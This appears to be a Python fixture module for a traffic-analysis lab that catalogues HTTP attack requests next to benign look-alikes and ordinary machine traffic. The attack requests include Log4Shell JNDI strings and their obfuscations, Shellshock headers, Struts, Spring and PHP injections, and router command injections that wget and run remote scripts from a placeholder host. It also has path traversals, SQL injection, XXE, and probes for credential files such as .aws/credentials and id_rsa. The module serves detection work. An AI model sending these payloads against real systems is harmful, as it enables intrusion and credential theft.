"""Requests as attackers and machines send them: facts out of advisories, vendors' manuals and published payloads."""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Iterator
from itertools import cycle, islice

from pcaps.lab.plain import BROWSER, NOT_FOUND, Visit

_LDAP = "ldap://198.51.100.66:1389/a"
LOG4J = (
    "${jndi:" + _LDAP + "}",
    "${jndi:ldaps://198.51.100.66/a}",
    "${jndi:rmi://198.51.100.66:1099/a}",
    "${jndi:dns://198.51.100.66/a}",
    "${jndi:iiop://198.51.100.66/a}",
    "${jndi:nis://198.51.100.66/a}",
    "${jndi:nds://198.51.100.66/a}",
    "${jndi:corba://198.51.100.66/a}",
    "${jndi:http://198.51.100.66/a}",
    "${${lower:j}ndi:" + _LDAP + "}",
    "${${lower:jndi}:${lower:ldap}://198.51.100.66/a}",
    "${${lower:${lower:jndi}}:${lower:ldap}://198.51.100.66/a}",
    "${${lower:j}${lower:n}${lower:d}i:${lower:rmi}://198.51.100.66/a}",
    "${${upper:j}${upper:n}${lower:d}i:" + _LDAP + "}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.66/a}",
    "${${::-j}ndi:rmi://198.51.100.66/a}",
    "${j${::-n}di:" + _LDAP + "}",
    "${${:::::::::-j}ndi:" + _LDAP + "}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//198.51.100.66/a}",
    "${${env:ENV_NAME:-j}n${env:ENV_NAME:-d}i:" + _LDAP + "}",
    "${${sys:nothing:-j}ndi:" + _LDAP + "}",
    "${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:" + _LDAP + "}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:${date:'l'}${date:'d'}${date:'a'}${date:'p'}://198.51.100.66/a}",
    "${${base64:am5kaTpsZGFw}://198.51.100.66/a}",
    "${${-:-j}${-:-n}${-:-d}i:" + _LDAP + "}",
    "${jNdI:lDaP://198.51.100.66/a}",
    "%24%7Bjndi:ldap://198.51.100.66/a%7D",
    "%2524%257Bjndi%253Aldap%253A%252F%252F198.51.100.66%252Fa%257D",
    "${jndi:ldap://127.0.0.1#198.51.100.66/a}",
    "${jndi:ldap://198.51.100.66/${hostName}/${env:USER}}",
    "Mozilla/5.0 ${jndi:" + _LDAP + "} Firefox",
    "${jndi:${lower:l}${lower:d}a${lower:p}://198.51.100.66/a",
)


def log4j_headers() -> Iterator[str]:
    """A header for each of LOG4J."""
    names = (
        "User-Agent",
        "Referer",
        "X-Forwarded-For",
        "Cookie",
        "Authorization",
        "X-Api-Version",
        "Accept-Language",
        "X-Client-IP",
        "If-Modified-Since",
        "Origin",
        "Forwarded",
    )
    return islice(cycle(names), len(LOG4J))


LOG4J_TARGETS = (
    "/?x=${jndi:" + _LDAP + "}",
    "/$%7Bjndi:ldap:$%7B::-/%7D/198.51.100.66/a%7D",
    "/%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.66%2Fa%7D",
    "/%2524%257Bjndi:ldap://198.51.100.66/a%257D",
    "/solr/admin/cores?action=$%7Bjndi:ldap://198.51.100.66/a%7D",
    "/?q=$%7B$%7Blower:j%7Dndi:dns://198.51.100.66/a%7D",
)


def _probe(target: str, method: str = "GET", agent: str = BROWSER, body: bytes | None = None, **more: object) -> Visit:
    return Visit(target, method, agent=agent, body=body, **{**NOT_FOUND, **more})  # type: ignore[arg-type]  # as given


_JSON, _RAW = "application/json", "application/octet-stream"

TOMCAT = (
    _probe("/manager/html", status="401 Unauthorized"),
    _probe("/host-manager/html", status="403 Forbidden", headers=("Authorization: Basic dG9tY2F0OnRvbWNhdA==",)),
    _probe("/..;/manager/html"),
    _probe("/manager/text/list", status="401 Unauthorized"),
    _probe("/manager/status", status="401 Unauthorized"),
    _probe("/manager/jmxproxy/?qry=x", status="403 Forbidden"),
    _probe("/shell.jsp/", "PUT", body=b"<% out.println(1); %>", content_type=_RAW),
    _probe(
        "/abc.session", "PUT", body=b"\xac\xed\x00\x05", content_type=_RAW, headers=("Content-Range: bytes 0-3/1200",)
    ),
)
SHELLSHOCK = (
    _probe("/cgi-bin/status", agent="() { :;}; /bin/bash -c 'echo vulnerable'"),
    _probe("/cgi-bin/test.cgi", headers=("Referer: () { ignored; }; /usr/bin/id",)),
    _probe("/cgi-bin/test.cgi", headers=("Cookie: () { :; }; ping -c 1 198.51.100.66",)),
)
JAVA = (
    _probe(
        "/index.action", "POST", body=b"x", content_type="%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT)}"
    ),
    _probe("/struts2/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29%29%7D/index.action"),
    _probe("/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
    _probe("/greeting", "POST", body=b"class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"),
    _probe(
        "/functionRouter",
        "POST",
        body=b"x",
        headers=("spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime()",),
    ),
    _probe("/actuator/gateway/routes/x", "POST", body=b'{"id": "x"}', content_type=_JSON),
    _probe("/wls-wsat/CoordinatorPortType", "POST", body=b"<x/>", content_type="text/xml"),
    _probe("/console/css/%252e%252e%252fconsole.portal"),
    _probe("/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/"),
    _probe("/jolokia/list"),
    _probe("/_async/AsyncResponseService"),
    _probe("/console/images/%252e%252e%252fconsole.portal"),
    _probe("/invoker/readonly"),
    _probe("/invoker/JMXInvokerServlet"),
)
PHP = (
    _probe("/", agent="<?= 1 ?>"),
    _probe(
        "/cgi-bin/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
        "POST",
        body=b"<?php echo 1;",
    ),
    _probe("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "POST", body=b"<?php echo 1;"),
    _probe("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5"),
    _probe("/index.php?file=php://filter/convert.base64-encode/resource=index"),
    _probe("/?-d+allow_url_include%3d1"),
    _probe("/_ignition/execute-solution", "POST", body=b'{"solution": "x"}', content_type=_JSON),
    _probe("/?XDEBUG_SESSION_START=phpstorm"),
    _probe("/index.php?lang=../../../../../usr/local/lib/php/pearcmd&+config-create+/"),
)
DEVICES = (
    _probe("/cgi-bin/supervisor/Factory.cgi?action=x"),
    _probe("/board.cgi?cmd=ls"),
    _probe(
        "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/var/x;wget+http://198.51.100.66/m.sh",
        agent="Hello, world",
    ),
    _probe("/shell?cd+/var/x;rm+-rf+*;wget+198.51.100.66/jaws;sh+/var/x/jaws", agent="Hello, world"),
    _probe(
        "/GponForm/diag_Form?images/", "POST", body=b"XWebPageName=diag&diag_action=ping&dest_host=`wget+198.51.100.66`"
    ),
    _probe("/boaform/admin/formLogin", "POST", body=b"username=admin&psd=admin"),
    _probe(
        "/HNAP1/",
        "POST",
        body=b"<x/>",
        content_type="text/xml",
        headers=("SOAPAction: http://purenetworks.com/HNAP1/`cd /var`",),
    ),
    _probe("/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)"),
    _probe("/goform/set_LimitClient_cfg", "POST", body=b"time1=00:00-00:00&mac=;wget http://198.51.100.66/x;"),
    _probe("/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20%2Fvar%3Bwget"),
    _probe("/SDK/webLanguage", "PUT", body=b"<language>$(id)</language>", content_type="application/xml"),
)
GATEWAYS = (
    _probe("/vpn/../vpns/cfg/smb.conf"),
    _probe("/tmui/login.jsp/..;/tmui/system/user/create.jsp"),
    _probe("/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/"),
    _probe("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
    _probe("/global-protect/login.esp"),
    _probe(
        "/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@evil.example"
    ),
    _probe("/api/v2/cmdb/system/admin"),
    _probe("/mgmt/tm/util/bash", "POST", body=b'{"command": "run"}', content_type=_JSON),
    _probe("/SetupWizard.aspx/anything"),
    _probe("/oauth/idp/.well-known/openid-configuration"),
    _probe("/guestaccess.aspx"),
    _probe("/ui/vropspluginui/rest/services/uploadova", "POST", body=b"x"),
)
SECRET_FILES = (
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/.aws/credentials",
    "/.ssh/id_rsa",
    "/wp-config.php.bak",
    "/config.json",
    "/backup.sql",
    "/dump.sql.gz",
    "/actuator/env",
    "/actuator/heapdump",
    "/server-status",
    "/phpinfo.php",
    "/.svn/entries",
    "/.DS_Store",
    "/web.config",
    "/api/.env.production",
    "/id_rsa",
    "/.htpasswd",
)
SECRETS = tuple(_probe(target, reply=b"not found\n", reply_type="text/plain") for target in SECRET_FILES)
TRAVERSAL = tuple(
    _probe(target)
    for target in (
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
        "/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd",
        "/download?file=../../../../etc/passwd",
        "/static/..%2f..%2f..%2f..%2fetc%2fshadow",
        "/static/%2e%2e/%2e%2e/readme",
        "/view?f=C:/windows/win.ini",
        "/view?f=..\\..\\..\\windows\\win.ini",
        "/view?f=%2e%2e%2f%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron",
    )
)
SQL = tuple(
    _probe(target)
    for target in (
        "/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
        "/item?id=1+union+all+select+null,version()--",
        "/item?id=1'%20or%20'1'='1",
        "/item?id=1%20and%20sleep(5)--",
        "/item?id=1;waitfor%20delay%20'0:0:5'--",
        "/item?id=extractvalue(1,concat(0x7e,version()))",
        "/item?id=1+and+1=(select+count(*)+from+information_schema.tables)",
    )
)
INJECTION = (
    _probe("/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    _probe(
        "/soap",
        "POST",
        body=b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><a>&b;</a>',
        content_type="text/xml",
    ),
    _probe("/ping?host=127.0.0.1`id`"),
    _probe("/ping?host=$(curl${IFS}198.51.100.66)"),
    _probe("/ping?host=$(/bin/cat%20/etc/hostname)"),
)
LOOK_ALIKES = (
    Visit("/static/file/manager/html5/app.js", **NOT_FOUND),
    Visit("/login?next=/manager/html", status="403 Forbidden"),
    Visit("/content-manager/text/7"),
    Visit("/manager/html/help"),
    Visit("/search?q=$(document).ready"),
    Visit("/search?q=%24%28this%29.hide%28%29", headers=("Referer: http://www.harbour.example/?q=$(id).show()",)),
    Visit("/search?q=`select`+in+mysql&text=`/api/users`"),
    Visit("/search?q=wget+tutorial&sort=curl+first"),
    Visit("/game?pin=1&pass=2&secret=no"),
    Visit("http://ola@www.harbour.example/home"),
    Visit("/courses/oscp/exam"),
    Visit("/oscp/exam"),
    Visit("/feed?user=ola&secret=no"),
    Visit("/f", "POST", body=b'{"pass": "yes", "session_id": "7", "pin": "a"}', content_type="application/json"),
    Visit("/g", "POST", body=b"<junit><pass>12</pass></junit>", content_type="text/xml"),
    Visit("/h", agent="Skip/2.1 xpkg/1.2 Clip/3"),
)
"""None is an attack."""


def guesses(count: int) -> list[str]:
    """Basic credentials of one user."""
    return [b64encode(b"admin:guess%d" % number).decode() for number in range(count)]


SCANNERS = (
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "l9explore/1.2.2",
    "l9tcpid/v1.1.0",
    "feroxbuster/2.10.2",
    "Arachni/v1.6.1",
    "OpenVAS-VT 22.4",
)
PACKAGE_MANAGERS = (
    ("opkg/0.6.2", "mirror.harbour.example", "/openwrt/packages/Packages.gz"),
    ("Debian APT-HTTP/1.3 (2.6.1)", "deb.harbour.example", "/debian/dists/bookworm/InRelease"),
    ("Debian APT-HTTP/1.3 (2.6.1)", "deb.harbour.example", "/debian/pool/main/h/htop/htop_3.2.2-2_amd64.deb"),
    ("libdnf (Fedora Linux 42; server; Linux.x86_64)", "mirror.harbour.example", "/fedora/repodata/repomd.xml"),
    ("urlgrabber/3.10 yum/3.4.3", "mirror.harbour.example", "/centos/7/os/x86_64/repodata/repomd.xml"),
    ("pacman/6.1.0 (Linux x86_64) libalpm/14.0.0", "mirror.harbour.example", "/archlinux/core/os/x86_64/core.db"),
    ("apk-tools/2.14.4", "mirror.harbour.example", "/alpine/v3.20/main/x86_64/APKINDEX.tar.gz"),
    ("pkg/1.21.3", "pkg.harbour.example", "/FreeBSD:14:amd64/quarterly/meta.conf"),
    (
        "ZYpp 17.34.1 (curl 8.6.0) openSUSE-Leap-15.6",
        "mirror.harbour.example",
        "/leap/15.6/repo/oss/repodata/repomd.xml",
    ),
)
LIBRARY_MANAGERS = (
    ("Composer/2.7.2 (Linux; 6.1; PHP 8.2.18)", "repo.harbour.example", "/p2/a/b.json"),
    ("NuGet Command Line/6.9.1 (Microsoft Windows)", "nuget.harbour.example", "/api/v2/package/a/1.0"),
    ("Apache-Maven/3.9.6 (Java 17.0.15; Linux 6.1)", "repo.harbour.example", "/maven2/org/a/b/1.0/b-1.0.jar"),
    ("Gradle/8.7 (Linux;6.1;amd64) (Debian;17.0.15)", "repo.harbour.example", "/maven2/org/a/c/1.0/c-1.0.jar"),
    ("pip/24.0 {}", "pypi.harbour.example", "/simple/requests/"),
    ("npm/10.5.0 node/v20.12.0 linux x64", "npm.harbour.example", "/left-pad/-/left-pad-1.3.0.tgz"),
    ("Ruby, RubyGems/3.5.3 x86_64-linux Ruby/3.3.0", "gems.harbour.example", "/gems/rake-13.2.1.gem"),
)
UPDATERS = (
    (
        "Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.70",
        "au.windowsupdate.example",
        "/d/msdownload/update/x.cab",
    ),
    ("Microsoft-Delivery-Optimization/10.1", "dl.delivery.example", "/filestreamingservice/files/0f1e"),
    ("Microsoft BITS/7.8", "dl.delivery.example", "/edgedl/chrome_installer.exe"),
    ("Google Update/1.3.36.152;winhttp", "redirector.gvt1.example", "/edgedl/release2/x.crx3"),
    ("ClamAV/1.0.5 (OS: Linux, ARCH: x86_64, CPU: x86_64)", "database.clamav.example", "/daily.cvd"),
)
MONITORS = (
    "check_http/v2.3.3 (monitoring-plugins 2.3.3)",
    "Zabbix 6.4.12",
    "Icinga/check_curl",
    "Prometheus/2.51.0",
    "Blackbox Exporter/0.25.0",
    "kube-probe/1.30",
    "ELB-HealthChecker/2.0",
    "GoogleHC/1.0",
    "UptimeRobot/2.0 (http://www.uptimerobot.com/)",
    "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
    "Site24x7",
    "Consul Health Check",
    "Nagios/4.5",
)
CONNECTIVITY = (
    ("connectivitycheck.gstatic.com", "/generate_204", "204 No Content"),
    ("captive.apple.com", "/hotspot-detect.html", "200 OK"),
    ("www.msftconnecttest.com", "/connecttest.txt", "200 OK"),
    ("detectportal.firefox.com", "/success.txt?ipv4", "200 OK"),
    ("www.msftncsi.com", "/ncsi.txt", "200 OK"),
    ("nmcheck.gnome.org", "/check_network_status.txt", "200 OK"),
    ("network-test.debian.org", "/nm", "200 OK"),
    ("connectivity-check.ubuntu.com", "/", "204 No Content"),
)

TOKENS = (
    "token 0123456789abcdef",
    "ApiKey 0123456789abcdef",
    "OAuth oauth_token=0123",
    "AWS4-HMAC-SHA256 Credential=AKIA0/20261001/eu/s3/aws4_request, SignedHeaders=host, Signature=0",
    "NTLM TlRMTVNTUAABAAAAB4IIogAAAAAAAAAAAAAAAAAAAAA=",
    "Negotiate YIIBhg==",
)
